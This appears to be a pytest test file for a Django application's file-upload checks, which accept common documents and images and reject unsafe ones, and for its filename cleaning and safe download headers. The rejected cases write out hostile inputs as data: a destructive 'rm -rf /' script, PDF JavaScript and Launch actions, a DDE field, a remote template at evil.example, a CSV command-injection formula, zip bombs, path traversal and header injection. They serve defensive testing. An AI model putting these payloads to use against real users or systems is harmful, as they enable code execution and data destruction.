"""Files that people hand to each other: what is taken, and the sentence for what is not."""

import io
import zipfile
import zlib

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse
from django.test import RequestFactory

from proxeny.kernel.errors import InvalidInput
from proxeny.kernel.files import MAX_BYTES, answer_file, check_file
from proxeny.kernel.files.documents import MAX_PARTS
from proxeny.kernel.files.uploads import watching_size
from proxeny.kernel.models import StoredFile

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << >>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"
    + (2).to_bytes(4)
    + (3).to_bytes(4)
    + b"\x08\x06\0\0\0\0\0\0\0"
    + b"\0\0\0\0IEND\xaeB`\x82"
)
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 20 + b"\xff\xd9"
WEBP = b"RIFF\x10\0\0\0WEBPVP8 " + b"\0" * 8
RUNS, LOCKED, ELSE, HUGE, FORMULA = (
    "can run when it’s opened",
    "PDF is locked",
    "isn’t what its name says",
    "unpacks to more",
    "formula",
)


def packed(**parts):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def office(main="wordprocessingml.document", **more):
    types = f'<Types><Override ContentType="application/vnd.{main}.main+xml"/></Types>'
    return packed(**{"[Content_Types].xml": types, "word/document.xml": "<w/>", **more})


def open_document(kind="text", **more):
    mime = f"application/vnd.oasis.opendocument.{kind}"
    return packed(**{"mimetype": mime, "content.xml": "<office/>", **more})


def workbook():
    target = io.BytesIO()
    with xlsxwriter.Workbook(target, {"in_memory": True}) as book:
        book.add_worksheet().write_row(0, 0, ["Name", "=1+1"])
    return target.getvalue()


def pdf_with(inside):
    return PDF.replace(b"/Type /Catalog", inside)


def object_stream(inside):
    body = zlib.compress(inside)
    stream = b"2 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + body + b"endstream\n"
    return PDF.replace(b"trailer", stream + b"trailer")


@pytest.mark.parametrize(
    ("name", "content", "media_type"),
    [
        ("Plan.PDF", PDF, "application/pdf"),
        ("logo.png", PNG, "image/png"),
        ("photo.jpg", JPEG, "image/jpeg"),
        ("photo.jpeg", JPEG, "image/jpeg"),
        ("picture.webp", WEBP, "image/webp"),
        ("notes.txt", "Ψηφιακή Ακρόπολη\n".encode(), "text/plain"),
        ("notes.txt", "Καλημέρα".encode("utf-16"), "text/plain"),
        ("notes.txt", "Ελλάδα".encode("cp1253"), "text/plain"),
        ("list.csv", b"Name;Phone\nA;+33 1 23 45\nB;-12\nC;@handle\n", "text/csv"),
        (
            "list.xlsx",
            workbook(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            "text.docx",
            office(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("text.odt", open_document(), "application/vnd.oasis.opendocument.text"),
        (
            "slides.odp",
            open_document("presentation"),
            "application/vnd.oasis.opendocument.presentation",
        ),
    ],
)
def test_taken(name, content, media_type):
    assert check_file(name, content).media_type == media_type


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("empty.pdf", b"", "empty"),
        ("large.txt", b"a" * (MAX_BYTES + 1), "is 11 MB. The maximum for sharing is 10 MB"),
        ("page.html", b"<html>", RUNS),
        ("drawing.svg", b"<svg onload='x'/>", RUNS),
        ("run.exe", b"MZ", RUNS),
        ("macro.docm", office(), RUNS),
        ("archive.zip", packed(a="b"), "this type can’t be shared"),
        ("nothing", b"text", "this type can’t be shared"),
        ("page.txt", b"  <!DOCTYPE html><script>alert(1)</script>", RUNS),
        ("page.csv", b"a,b\n<script>alert(1)</script>", RUNS),
        ("run.txt", b"#!/bin/sh\nrm -rf /", RUNS),
        ("run.txt", b"MZ\x90\0\3", ELSE),
        ("page.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", ELSE),
        ("page.pdf", b"<html>%PDF-1.7 %%EOF", "isn’t a complete PDF"),
        ("cut.pdf", PDF[:-8], "isn’t a complete PDF"),
        ("photo.jpg", PNG, ELSE),
        ("photo.webp", b"RIFF\0\0\0\0WAVE", ELSE),
        ("page.png", PNG + b"<script>alert(1)</script>", ELSE),
        (
            "bomb.png",
            PNG.replace((2).to_bytes(4) + (3).to_bytes(4), b"\0\1\x86\xa0" * 2),
            "too large",
        ),
        ("script.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), RUNS),
        ("script.pdf", pdf_with(b"/OpenAction << /S /#4Aava#53cript >>"), RUNS),
        ("launch.pdf", pdf_with(b"/OpenAction << /S /Launch >>"), RUNS),
        ("hidden.pdf", object_stream(b"<< /S /JavaScript >>"), RUNS),
        ("bomb.pdf", object_stream(b"\0" * (101 << 20)), HUGE),
        ("locked.pdf", pdf_with(b"/Encrypt 5 0 R"), LOCKED),
        ("formula.csv", b"Name,Sum\nA,=1+1\n", FORMULA),
        ("formula.csv", b'Name;Sum\nA;"=HYPERLINK(1)"\n', FORMULA),
        ("formula.csv", b"Name\n+cmd|' /C calc'!A0\n", FORMULA),
        ("text.docx", workbook(), ELSE),
        ("text.docx", packed(a="b"), ELSE),
        ("text.docx", b"plain", ELSE),
        ("text.docx", office()[:-40], "damaged"),
        ("text.docx", office(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1"}), RUNS),
        ("text.docx", office(**{"word/media/a.bin": b"\xd0\xcf\x11\xe0\xa1\xb1"}), RUNS),
        ("text.docx", office(**{"word/embeddings/a.bin": b"MZ\x90"}), RUNS),
        ("text.docx", office(**{"word/activeX/a.xml": "<a/>"}), RUNS),
        (
            "text.docx",
            office(**{"word/document.xml": "<w:instrText>DDEAUTO c:\\\\x</w:instrText>"}),
            RUNS,
        ),
        (
            "text.docx",
            office(
                **{
                    "word/_rels/settings.xml.rels": '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
                    ' TargetMode="External"/>'
                }
            ),
            RUNS,
        ),
        (
            "text.docx",
            office(**{"[Content_Types].xml": "wordprocessingml.document.main+xml macroEnabled"}),
            RUNS,
        ),
        ("text.docx", office(**{"../../etc/passwd": "x"}), "damaged"),
        ("text.docx", office(**{f"word/{n}.xml": "" for n in range(MAX_PARTS)}), HUGE),
        ("bomb.docx", office(**{"word/document.xml": b"\0" * (101 << 20)}), HUGE),
        ("list.xlsx", office("ms-excel.sheet.macroEnabled"), RUNS),
        ("list.xlsx", office("spreadsheetml.sheet", **{"xl/macrosheets/s.xml": "<a/>"}), RUNS),
        ("text.odt", open_document("spreadsheet"), ELSE),
        ("text.odt", open_document(**{"Basic/Standard/Module1.xml": "Sub Main"}), RUNS),
        ("text.odt", open_document(**{"content.xml": "<script:event-listener/>"}), RUNS),
        (
            "text.odt",
            open_document(**{"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
            "damaged or password-protected",
        ),
    ],
)
def test_refused_with_a_sentence(name, content, sentence):
    with pytest.raises(InvalidInput, match=sentence):
        check_file(name, content)


def test_a_directory_that_lies_about_sizes_is_not_believed():
    data = bytearray(office(**{"word/document.xml": b"\0" * (101 << 20)}))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = (9).to_bytes(4, "little")
    with pytest.raises(InvalidInput, match=HUGE):
        check_file("bomb.docx", bytes(data))


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/plan.pdf", "plan.pdf"),
        ("C:\\Users\\me\\plan.pdf", "plan.pdf"),
        ("in\u202evoice\u202cfdp.pdf", "invoicefdp.pdf"),
        ('a"b\r\nSet-Cookie: x.pdf', "a-bSet-Cookie- x.pdf"),
        ("  .hidden.pdf", "hidden.pdf"),
        ("con.pdf", "file-con.pdf"),
        (".pdf", "pdf"),
        (f"{'x' * 300}.pdf", f"{'x' * 116}.pdf"),
        ("Σχέδιο δράσης.pdf", "Σχέδιο δράσης.pdf"),
    ],
)
def test_names_are_made_safe(given, kept):
    from proxeny.kernel.files.naming import clean_name

    assert clean_name(given) == kept


def test_a_download_is_saved_and_never_shown():
    file = StoredFile(name="Σχέδιο.pdf", media_type="application/pdf", content=PDF)
    response = answer_file(file)
    assert response.content == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        "attachment; filename=\"schedio.pdf\"; filename*=UTF-8''%CE%A3%CF%87%CE%AD%CE%B4%CE%B9%CE%BF.pdf"
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert "no-store" in response["Cache-Control"]


def test_a_view_that_watches_sizes_asks_for_the_token_once_it_knows_them():
    seen = []

    @watching_size(10)
    def view(request):
        seen.append((len(request.FILES), getattr(request, "upload_too_large", 0) > 0))
        return HttpResponse()

    ask = RequestFactory()
    forged = ask.post("/", {"file": SimpleUploadedFile("a.txt", b"x")})
    assert view(forged).status_code == 403
    assert seen == []
    assert view.csrf_exempt
    for content in (b"x", b"x" * 11):
        request = ask.post("/", {"file": SimpleUploadedFile("a.txt", content)})
        request._dont_enforce_csrf_checks = True
        assert view(request).status_code == 200
    assert seen == [(1, False), (0, True)]
